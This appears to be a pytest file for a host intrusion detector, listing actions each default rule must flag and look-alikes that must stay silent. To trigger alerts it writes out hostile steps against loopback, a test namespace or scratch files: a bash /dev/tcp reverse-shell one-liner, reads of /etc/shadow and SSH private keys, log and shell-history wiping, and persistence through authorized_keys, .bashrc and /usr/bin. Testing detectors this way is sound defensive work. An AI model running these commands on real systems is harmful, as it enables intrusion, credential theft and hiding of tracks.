# SPDX-License-Identifier: Apache-2.0
"""What each default rule must see, and what looks like it but must stay silent.

One row a case: the rule, what is done, how, and which fields the alert must carry. `{scene}` in an
expected value stands for the scene's directory.
"""

import os
import pwd
import re
import shutil
import socket
import stat
import subprocess
from collections import namedtuple

import pytest

Case = namedtuple("Case", "rule what how fields", defaults=({},))


def remove_later(scene, *paths):
    """What a case leaves outside the scene's directory."""
    for path in paths:
        scene.undo.append(lambda path=path: os.path.lexists(path) and os.unlink(path))
    return paths[0]


def unique(scene, directory, ending=""):
    return remove_later(scene, f"{directory}/saker-{scene.name}{ending}")


def copy_of_act(scene, path):
    """Made by this process (nobody watches copies), to be run by the case."""
    with open(scene.act, "rb") as original, open(path, "wb") as copy:
        copy.write(original.read())
    os.chmod(path, 0o755)
    return path


def run_from(directory):
    def how(scene):
        scene.run(copy_of_act(scene, unique(scene, directory)), "noop")
    return how


def do(action, *arguments, ok=(0,)):
    """An action of helpers/act.c; `{file}` in an argument is a fresh file in the scene."""
    def how(scene):
        filled = [part.format(scene=scene.directory, file=scene.path("file"))
                  for part in map(str, arguments)]
        if any("{file}" in part for part in map(str, arguments)):
            scene.file("file", "text\n")
        scene.do(action, *filled, ok=ok)
    return how


def do_below(action, directory, ending="", *more, ok=(0,)):
    """The action on a new name below a directory of the system."""
    def how(scene):
        scene.do(action, unique(scene, directory, ending), *more, ok=ok)
    return how


def sh(script, shell="bash"):
    """One shell that runs a script; $DIR is the scene's directory, $NAME a unique name."""
    def how(scene):
        scene.run(shell, "-c", script, env={**os.environ, "DIR": scene.path(), "NAME": scene.name})
    return how


def to_system(command, directory, ending=""):
    """A command (mv, ln, ln -s, cp) that brings a file of the scene to the system's directory."""
    def how(scene):
        scene.run(*command, scene.file("file", "text\n"), unique(scene, directory, ending))
    return how


def on_target(action, ok=(0,)):
    def how(scene):
        scene.do(action, scene.target().pid, ok=ok)
    return how


def existing(action, directory, name="{name}", *more):
    """The action on a file that is there already, made by this process."""
    def how(scene):
        path = unique(scene, directory)
        with open(path, "w") as file:
            file.write("text\n")
        scene.do(action, path, *more)
    return how


def existing_command(command, path_of):
    def how(scene):
        path = path_of(scene)
        with open(path, "w") as file:
            file.write("text\n")
        scene.run(*[part.format(path=path, away=scene.path("away")) for part in command])
    return how


def shell_connects(address_of, program="bash"):
    """A connection over a network namespace of the test's own, with a veth pair between the two."""
    def how(scene):
        with namespaces(scene) as (inside, address):
            target = address_of(address)
            if program == "bash":
                command = ["bash", "-c", f"exec 3<>/dev/tcp/{target}/9 || true"]
            else:
                command = [scene.act, "connect", target, "9"]
            scene.run("ip", "netns", "exec", inside, *command, ok=(0, 1))
    return how


class namespaces:
    """Two network namespaces with a veth pair between them; the far end has 198.51.100.2."""

    def __init__(self, scene):
        self.near = f"near-{scene.name}"
        self.far = f"far-{scene.name}"

    def ip(self, *command):
        subprocess.run(["ip", *command], check=True, capture_output=True)

    def __enter__(self):
        self.ip("netns", "add", self.near)
        self.ip("netns", "add", self.far)
        self.ip("-n", self.near, "link", "add", "veth0", "type", "veth",
                "peer", "name", "veth0", "netns", self.far)
        for name, address in ((self.near, "198.51.100.1/24"), (self.far, "198.51.100.2/24")):
            self.ip("-n", name, "addr", "add", address, "dev", "veth0")
            self.ip("-n", name, "link", "set", "veth0", "up")
            self.ip("-n", name, "link", "set", "lo", "up")
        return self.near, "198.51.100.2"

    def __exit__(self, *_):
        for name in (self.near, self.far):
            subprocess.run(["ip", "netns", "delete", name], capture_output=True)


def bash_over_loopback(scene):
    """To a listener of ours; the answer is awaited, so the connection was made."""
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        port = listener.getsockname()[1]
        child = scene.start("bash", "-c", f"exec 3<>/dev/tcp/127.0.0.1/{port}; read -u 3 answer")
        connection, _ = listener.accept()
        connection.sendall(b"done\n")
        connection.close()
        child.wait(10)


def reverse_shell(scene):
    """bash gets its standard streams from a connection, as /dev/tcp one-liners do it."""
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        port = listener.getsockname()[1]
        child = scene.start("bash", "-c", f"exec 5<>/dev/tcp/127.0.0.1/{port}; exec 0<&5; cat")
        connection, _ = listener.accept()
        connection.close()
        child.wait(10)


def renamed_reader(scene):
    """A name that is trusted does not make the file behind it trusted."""
    scene.do("named", "sshd", "read", "/etc/shadow")


def named_history(scene):
    return scene.path(".bash_history")


def read_ssh_key(scene):
    scene.file(".ssh/id_ed25519", "no key\n", 0o600)
    scene.do("read", scene.path(".ssh/id_ed25519"))


def read_ssh_public_key(scene):
    scene.file(".ssh/id_ed25519.pub", "no key\n")
    scene.do("read", scene.path(".ssh/id_ed25519.pub"))


def hard_link_of_shadow(scene):
    """The file itself is not touched: both names go away with the test."""
    scene.run("ln", "/etc/shadow", unique(scene, "/etc"))


def write_authorized_keys(scene):
    scene.file(".ssh/other")
    scene.do("write", scene.path(".ssh/authorized_keys"))


def as_nobody(*command):
    """In a directory of nobody's, with the same names free to choose as anybody has."""
    def how(scene):
        nobody = pwd.getpwnam("nobody").pw_uid
        os.chown(scene.path(), nobody, -1)
        scene.run(*[part.format(scene=scene.directory) for part in command], user=nobody)
    return how


def moved_away(directory, name):
    """A file that looks like what is watched, moved to where it does not."""
    def how(scene):
        scene.file(f"{directory}/{name}", "no key\n", 0o600)
        scene.run("mv", scene.path(directory, name), scene.path("elsewhere"))
    return how


def linked_key(scene):
    scene.run("ln", scene.file(".ssh/id_rsa", "no key\n", 0o600), scene.path("elsewhere"))


def planted(name, *made_by):
    """A program of a trusted name where programs are, but not in a directory for them."""
    def how(scene):
        directory = f"/opt/saker-{scene.name}"
        os.mkdir(directory)
        scene.undo.append(lambda: os.rmdir(directory))
        scene.run(*made_by, scene.file("file", "text\n"),
                  remove_later(scene, f"{directory}/{name}"))
    return how


def planted_branch(scene):
    directory = f"/opt/saker-{scene.name}"
    os.makedirs(f"{directory}/refs/heads")
    scene.undo.append(lambda: shutil.rmtree(directory))
    scene.run("cp", scene.file("file", "text\n"), f"{directory}/refs/heads/master")


def existing_log(scene):
    path = unique(scene, "/var/log")
    with open(path, "w") as file:
        file.write("text\n")
    return path


def a_disk():
    """One of the machine, to be opened for reading alone."""
    for entry in sorted(os.listdir("/dev")):
        if re.match("sd|vd|xvd|nvme.*n|dm-|md|mmcblk", entry) and \
                stat.S_ISBLK(os.stat(f"/dev/{entry}").st_mode):
            return f"/dev/{entry}"
    pytest.skip("this machine has no disk")
    return None


def replaced_log(scene):
    scene.run("mv", scene.file("clean", "text\n"), unique(scene, "/var/log"))


SHADOW = {"fd.name": "/etc/shadow", "proc.name": "act", "user.name": "root"}

FIRES = [
    Case("Program run from memory", "memfd", do("memfd-exec"), {"proc.exepath": "memfd:act"}),

    Case("Program run from world-writable directory", "/tmp", run_from("/tmp"),
         {"user.name": "root"}),
    Case("Program run from world-writable directory", "/dev/shm", run_from("/dev/shm")),
    Case("Program run from world-writable directory", "/var/tmp", run_from("/var/tmp")),

    Case("Standard stream redirected to network", "dup2 onto 0", do("dup-tcp", 0),
         {"fd.type": "ipv4", "evt.type": "dup2"}),
    Case("Standard stream redirected to network", "dup3 onto 1", do("dup3-tcp", 1),
         {"evt.type": "dup3"}),
    Case("Standard stream redirected to network", "fcntl into 0", do("fcntl-tcp", 0),
         {"evt.type": "fcntl"}),
    Case("Standard stream redirected to network", "bash and /dev/tcp", reverse_shell,
         {"proc.name": "bash"}),

    Case("Shell connects to network", "loopback", bash_over_loopback,
         {"proc.name": "bash", "fd.sip": "127.0.0.1"}),
    Case("Shell connects to network", "another host", shell_connects(lambda address: address),
         {"proc.name": "bash", "evt.arg.addr": "198.51.100.2:9"}),

    Case("Kernel module loaded", "init_module", do("init-module", ok=(1,)),
         {"evt.type": "init_module"}),
    Case("Kernel module loaded", "finit_module", do("finit-module", "{file}", ok=(1,)),
         {"evt.type": "finit_module"}),

    Case("eBPF program loaded", "socket filter", do("bpf-program"),
         {"evt.arg.cmd": "BPF_PROG_LOAD", "proc.name": "act"}),

    Case("Kernel helper changed", "release_agent", do("write", "{scene}/release_agent"),
         {"fd.name": "{scene}/release_agent"}),
    Case("Kernel helper changed", "core_pattern", do("write", "/proc/sys/kernel/core_pattern"),
         {"fd.name": "/proc/sys/kernel/core_pattern"}),

    Case("Process injected into", "attach", on_target("attach"),
         {"evt.arg.request": "PTRACE_ATTACH"}),
    Case("Process injected into", "memory", on_target("memory-write")),
    Case("Process injected into", "process_vm_writev", on_target("memory-vm-write", ok=(1,)),
         {"evt.type": "process_vm_writev"}),

    Case("Kernel to start loaded", "by a file", do("kexec", ok=(1,)),
         {"evt.type": "kexec_file_load"}),
    Case("Kernel memory opened", "mem", do("read", "/dev/mem", ok=(0, 1)),
         {"fd.name": "/dev/mem"}),
    Case("Process spied on", "memory file", on_target("memory-read")),
    Case("Process spied on", "process_vm_readv", do("memory-vm-read", "other"),
         {"evt.type": "process_vm_readv"}),
    Case("Process spied on", "descriptor", on_target("take-descriptor"),
         {"evt.type": "pidfd_getfd"}),
    Case("Disk opened directly", "disk", lambda scene: scene.do("read", a_disk(), ok=(0, 1))),
    Case("Disk opened directly", "device file", do("make-device", "{scene}/device", "disk"),
         {"evt.arg.path": "{scene}/device"}),

    Case("Namespace changed", "setns", do("setns", "/proc/self/ns/uts"), {"evt.type": "setns"}),
    Case("Namespace changed", "unshare", do("unshare-mounts"), {"evt.type": "unshare"}),
    Case("Namespace changed", "clone", do("clone-user"), {"evt.type": "clone"}),

    Case("Root identity taken", "nobody to root", do("become-root"),
         {"evt.type": "setresuid", "user.name": "root"}),

    Case("Setuid bit set", "chmod", do("chmod", "{file}", "4755"),
         {"fs.path.name": "{scene}/file", "evt.type": "chmod"}),
    Case("Setuid bit set", "fchmod", do("fchmod", "{file}", "4755"), {"evt.type": "fchmod"}),
    Case("Setuid bit set", "fchmodat2", do("fchmodat2", "{file}", "4755"),
         {"evt.type": "fchmodat2"}),
    Case("Setuid bit set", "capabilities", do("give-capability", "{file}"),
         {"fs.path.name": "{scene}/file", "evt.type": "setxattr"}),
    Case("Setuid bit set", "made with it", do("create-mode", "{scene}/new", "4755"),
         {"fd.name": "{scene}/new"}),
    Case("Setuid bit set", "the command", sh("touch $DIR/f; exec chmod u+s $DIR/f"),
         {"proc.name": "chmod", "fs.path.name": "{scene}/f"}),

    Case("Page faults handled by unprivileged process", "nobody", do("userfault-nobody"),
         {"user.name": "nobody"}),

    Case("Log cleared", "emptied", existing("truncate", "/var/log")),
    Case("Log cleared", "emptied by creat", existing("creat", "/var/log")),
    Case("Log cleared", "truncated",
         existing_command(["truncate", "-s", "0", "{path}"],
                          lambda scene: unique(scene, "/var/log")), {"proc.name": "truncate"}),
    Case("Log cleared", "cut by its name",
         lambda scene: scene.do("cut", "name", existing_log(scene)), {"evt.type": "truncate"}),
    Case("Log cleared", "cut by a descriptor that appends",
         lambda scene: scene.do("cut", "descriptor", existing_log(scene)),
         {"evt.type": "ftruncate"}),
    Case("Log cleared", "with a hole",
         lambda scene: scene.do("cut", "hole", existing_log(scene)), {"evt.type": "fallocate"}),
    Case("Log cleared", "removed",
         existing_command(["rm", "{path}"], lambda scene: unique(scene, "/var/log")),
         {"proc.name": "rm"}),
    Case("Log cleared", "moved away",
         existing_command(["mv", "{path}", "{away}"], lambda scene: unique(scene, "/var/log")),
         {"proc.name": "mv"}),

    Case("Log cleared", "replaced", replaced_log, {"proc.name": "mv"}),
    Case("Log cleared", "by a file called like a trusted script",
         lambda scene: scene.do("named", "savelog", "truncate", existing_log(scene))),

    Case("Shell history removed", "removed", existing_command(["rm", "{path}"], named_history),
         {"proc.name": "rm"}),
    Case("Shell history removed", "emptied",
         existing_command(["bash", "-c", "> {path}"], named_history), {"proc.name": "bash"}),
    Case("Shell history removed", "truncated",
         existing_command(["truncate", "-s", "0", "{path}"], named_history),
         {"proc.name": "truncate"}),
    Case("Shell history removed", "cut by its name",
         lambda scene: scene.do("cut", "name", scene.file(".bash_history", "text\n")),
         {"evt.type": "truncate"}),
    Case("Shell history removed", "linked to nothing",
         existing_command(["ln", "-sf", "/dev/null", "{path}"], named_history),
         {"proc.name": "ln"}),

    Case("Scheduled job or service changed", "cron", do_below("write", "/etc/cron.d")),
    Case("Scheduled job or service changed", "systemd",
         to_system(["mv"], "/etc/systemd/system", ".service"), {"proc.name": "mv"}),

    Case("Login file changed", "authorized_keys", write_authorized_keys,
         {"fs.path.name": "{scene}/.ssh/authorized_keys"}),
    Case("Login file changed", "profile.d", do_below("write", "/etc/profile.d", ".sh")),
    Case("Login file changed", "start-up file", do("append", "{scene}/.bashrc"),
         {"fs.path.name": "{scene}/.bashrc"}),

    Case("Login file changed", "by a script that calls itself a trusted one",
         as_nobody("perl", "-e", "$0 = 'adduser'; open(F, '>>', '{scene}/.bashrc') or die $!"),
         {"fs.path.name": "{scene}/.bashrc", "proc.name": "adduser"}),

    Case("Binary directory changed", "trusted name elsewhere", planted("sshd", "cp"),
         {"proc.name": "cp"}),
    Case("Binary directory changed", "trusted name moved elsewhere", planted("sudo", "mv"),
         {"proc.name": "mv"}),
    Case("Binary directory changed", "written", do_below("write", "/usr/bin"),
         {"proc.name": "act", "user.name": "root"}),
    Case("Binary directory changed", "under the other name", do_below("write", "/bin")),
    Case("Binary directory changed", "creat", do_below("creat", "/usr/local/sbin")),
    Case("Binary directory changed", "copied", to_system(["cp"], "/usr/bin"), {"proc.name": "cp"}),
    Case("Binary directory changed", "moved in", to_system(["mv"], "/usr/bin"),
         {"proc.name": "mv"}),
    Case("Binary directory changed", "linked", to_system(["ln", "-s"], "/usr/bin"),
         {"proc.name": "ln"}),

    Case("Configuration changed", "written", do_below("write", "/etc"), {"proc.name": "act"}),
    Case("Configuration changed", "moved in", to_system(["mv"], "/etc", ".conf"),
         {"proc.name": "mv"}),

    Case("Sensitive file read", "shadow", do("read", "/etc/shadow"), SHADOW),
    Case("Sensitive file read", "cat", sh("exec cat /etc/shadow > /dev/null"),
         {"proc.name": "cat", "proc.cmdline": "cat /etc/shadow"}),
    Case("Sensitive file read", "under a trusted name", renamed_reader, {"proc.name": "sshd"}),
    Case("Sensitive file read", "SSH key", read_ssh_key,
         {"fd.name": "{scene}/.ssh/id_ed25519"}),
    Case("Sensitive file read", "SSH key moved", moved_away(".ssh", "id_rsa"),
         {"proc.name": "mv", "fs.path.source": "{scene}/.ssh/id_rsa"}),
    Case("Sensitive file read", "SSH key linked", linked_key, {"proc.name": "ln"}),
    Case("Sensitive file read", "hard link", hard_link_of_shadow,
         {"proc.name": "ln", "fs.path.target": "/etc/shadow"}),
    Case("Sensitive file read", "bind mount",
         lambda scene: scene.do("read-bind", "/etc/shadow", scene.file("place")),
         {"evt.type": "mount", "fs.path.source": "/etc/shadow"}),
    Case("Sensitive file read", "bind mount of the directory",
         lambda scene: scene.do("mount-bind", "/etc", scene.path()),
         {"evt.type": "mount", "fs.path.source": "/etc"}),
]

SILENT = [
    Case("Program run from memory", "memory file that is not run", do("memfd")),
    Case("Program run from world-writable directory", "run from elsewhere", do("noop")),
    Case("Program run from world-writable directory", "named like it",
         lambda scene: scene.run(copy_of_act(scene, scene.path("tmp-x")), "noop")),
    Case("Standard stream redirected to network", "another descriptor", do("dup-tcp", 9)),
    Case("Standard stream redirected to network", "local socket", do("dup-unix", 0)),
    Case("Shell connects to network", "no shell",
         shell_connects(lambda address: address, program="act")),
    Case("Shell connects to network", "child of a shell",
         lambda scene: scene.run("bash", "-c", f"{scene.act} connect 127.0.0.1 9; true")),
    Case("Kernel module loaded", "removal", do("delete-module", "saker_none", ok=(1,))),
    Case("eBPF program loaded", "map", do("bpf-map")),
    Case("Kernel helper changed", "read", do("read", "/proc/sys/kernel/core_pattern")),
    Case("Kernel helper changed", "similar name", do("write", "{scene}/release_agent.txt")),
    Case("Process injected into", "to be traced", do("traceme")),
    Case("Process injected into", "memory read", on_target("memory-read")),
    Case("Kernel to start loaded", "another call", do("delete-module", "saker_none", ok=(1,))),
    Case("Kernel memory opened", "similar name", do("create", "{scene}/mem")),
    Case("Process spied on", "its own memory", do("memory-vm-read", "self")),
    Case("Process spied on", "its own memory file", do("read", "/proc/self/mem")),
    Case("Disk opened directly", "no disk", do("read", "/dev/zero")),
    Case("Disk opened directly", "pipe", do("make-device", "{scene}/device", "pipe")),
    Case("Namespace changed", "files only", do("unshare-files")),
    Case("Namespace changed", "known program",
         lambda scene: scene.run("ip", "netns", "list")),
    Case("Root identity taken", "another user", do("setuid", 65534)),
    Case("Root identity taken", "effective user only", do("effective-root")),
    Case("Root identity taken", "su",
         lambda scene: scene.run("su", "-s", "/bin/sh", "-c", "true", "root")),
    Case("Setuid bit set", "made without it", do("create-mode", "{scene}/new", "1777")),
    Case("Standard stream redirected to network", "fcntl into another", do("fcntl-tcp", 9)),
    Case("Binary directory changed", "another name elsewhere", planted("notes", "cp")),
    Case("Binary directory changed", "branch", planted_branch),
    Case("Sensitive file read", "known hosts moved", moved_away(".ssh", "known_hosts")),
    Case("Setuid bit set", "another attribute", do("give-attribute", "{file}")),
    Case("Setuid bit set", "other bits", do("chmod", "{file}", "1777")),
    Case("Page faults handled by unprivileged process", "root", do("userfault-root")),
    Case("Log cleared", "appended", existing("append", "/var/log")),
    Case("Log cleared", "given room",
         lambda scene: scene.do("cut", "room", existing_log(scene))),
    Case("Log cleared", "new", do_below("create", "/var/log")),
    Case("Log cleared", "elsewhere", do("truncate", "{file}")),
    Case("Shell history removed", "appended", do("append", "{scene}/.bash_history")),
    Case("Shell history removed", "rewritten by renaming",
         existing_command(["mv", "{path}", "{away}"],
                          lambda scene: scene.path(".bash_history-00042.tmp"))),
    Case("Scheduled job or service changed", "read", do("read", "/etc/crontab", ok=(0, 1))),
    Case("Scheduled job or service changed", "similar name", do_below("write", "/etc", "-cron.d")),
    Case("Login file changed", "other file of SSH",
         lambda scene: (scene.file(".ssh/x"), scene.do("write", scene.path(".ssh/known_hosts")))),
    Case("Login file changed", "read", do("read", "/etc/profile")),
    Case("Binary directory changed", "read", do("read", "/usr/bin/env")),
    Case("Binary directory changed", "similar name",
         lambda scene: (scene.file("usr/bin/x"), scene.do("write", scene.path("usr/bin/y")))),
    Case("Configuration changed", "read", do("read", "/etc/hosts")),
    Case("Configuration changed", "similar name",
         lambda scene: (scene.file("etc/x"), scene.do("write", scene.path("etc/y")))),
    Case("Sensitive file read", "passwd", do("read", "/etc/passwd")),
    Case("Sensitive file read", "trusted program",
         lambda scene: scene.run("chage", "-l", "root")),
    Case("Sensitive file read", "public key", read_ssh_public_key),
    Case("Sensitive file read", "bind mount of another file",
         lambda scene: scene.do("read-bind", scene.file("other"), scene.file("place"))),
    Case("Sensitive file read", "refused",
         lambda scene: scene.do("read", "/etc/shadow", ok=(1,),
                                user=pwd.getpwnam("nobody").pw_uid)),
]

# Rules about containers alone have their cases in test_container.py.
CONTAINER_RULES = {"Dropped program run in container", "Shell started in container",
                   "Mount made in container"}
